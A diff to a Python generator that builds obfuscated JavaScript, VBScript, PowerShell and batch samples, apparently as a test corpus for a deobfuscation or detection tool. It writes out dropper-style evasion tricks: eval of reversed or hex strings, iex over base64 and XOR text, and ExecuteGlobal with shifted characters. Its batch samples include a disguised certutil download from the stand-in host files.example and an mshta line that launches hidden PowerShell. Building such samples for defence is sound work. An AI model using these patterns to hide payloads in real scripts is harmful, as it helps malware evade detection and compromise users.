@@ -143,9 +143,46 @@ def pages():
     yield "hta_vbe", "hta", "<html><script language='VBScript.Encode'>" + screnc(VBS)[:-1] + "</script></html>", True
 
 
+def later_js():
+    """Written when the code was there, before it had seen them."""
+    a = name()
+    yield "js_own_method", "var %s=%s;%s=%s.split('').reverse().join('');eval(%s);" % (a, q(JS[::-1]), a, a, a), True
+    yield "js_function", "new Function(" + plus(JS) + ")();", True
+    table = cut(JS, 3, 7)
+    yield "js_accessor", ("var t=[%s];function g(i){return t[i-5];}eval(%s);" % (
+        ",".join(q(x) for x in table), "+".join("g(%d)" % (i + 5) for i in range(len(table))))), False
+    yield "js_parse_int", ("var s='%s',o='';s.replace(/../g,function(x){o+=String.fromCharCode(parseInt(x,16));});this['ev'+'al'](o);"
+                           % JS.encode().hex()), False
+    yield "js_lines", "var s='';\n" + "".join("s=s+%s;\n" % q(x, "'") for x in cut(JS, 4, 9)) + "(new Function(s))();\n", True
+
+
+def later_vbs():
+    yield "vbs_array_loop", ("a = Array(%s)\r\nFor i = 0 To UBound(a)\r\n  s = s & Chr(a(i) - 3)\r\nNext\r\nExecuteGlobal s\r\n"
+                             % ",".join(str(ord(c) + 3) for c in VBS)), False
+    yield "vbs_function", ("Function d(x)\r\n  d = StrReverse(x)\r\nEnd Function\r\nExecute d(%s)\r\n"
+                           % vq(VBS.replace("\r\n", ":").rstrip(":")[::-1])), False
+    yield "vbs_chained", ("x = \"%s\"\r\nx = Replace(x, \"^\", \"\")\r\nExecute Replace(x, \"`\", Chr(34))\r\n"
+                          % "^".join(cut(VBS.replace("\r\n", ":").rstrip(":").replace('"', "`"), 1, 3))), True
+
+
+def later_ps():
+    yield "ps_unicode", "$b=%s;iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b)))" % pq(b64w(PS)), True
+    yield "ps_bxor", ("$k=35;$d=@(%s);iex (-join ($d | %%{[char]($_ -bxor $k)}))" % ",".join(str(ord(c) ^ 35) for c in PS)), False
+    yield "ps_scriptblock", "&([scriptblock]::Create((%s -replace '#','')))" % pq("#".join(cut(PS, 1, 3))), True
+    yield "ps_env", "$env:x=%s;iex $env:x" % plus(PS, pq), True
+    yield "ps_hex_split", ("iex (('%s' -split '-' | %%{[char][int]('0x'+$_)}) -join '')" % "-".join("%02x" % ord(c) for c in PS)), False
+
+
+def later_bat():
+    yield "bat_call", "@echo off\r\nset a=cert\r\nset b=util\r\ncall %%a%%%%b%% -url^cache -f http://files.example/in/a.bin\r\ncall st^art nothing.tmp\r\n".replace("%%", "%"), True
+    yield "bat_mshta", ("@start /min mshta vbscript:Execute(\"%s\")(window.close)\r\n" % ("CreateObject(\"\"WScr\"\"+\"\"ipt.Shell\"\").Run "
+                        "\"\"powershell -w hidden -e %s\"\",0" % b64w(PS))), True
+
+
 def variants():
     out = []
-    for make, end in ((js, "js"), (vbs, "vbs"), (powershell, "ps1"), (batch, "bat")):
+    for make, end in ((js, "js"), (vbs, "vbs"), (powershell, "ps1"), (batch, "bat"), (later_js, "js"), (later_vbs, "vbs"),
+                      (later_ps, "ps1"), (later_bat, "bat")):
         for ident, text, folds in make():
             out.append((ident, ident + "." + end, text.encode(), folds))
     for ident, end, text, folds in pages():
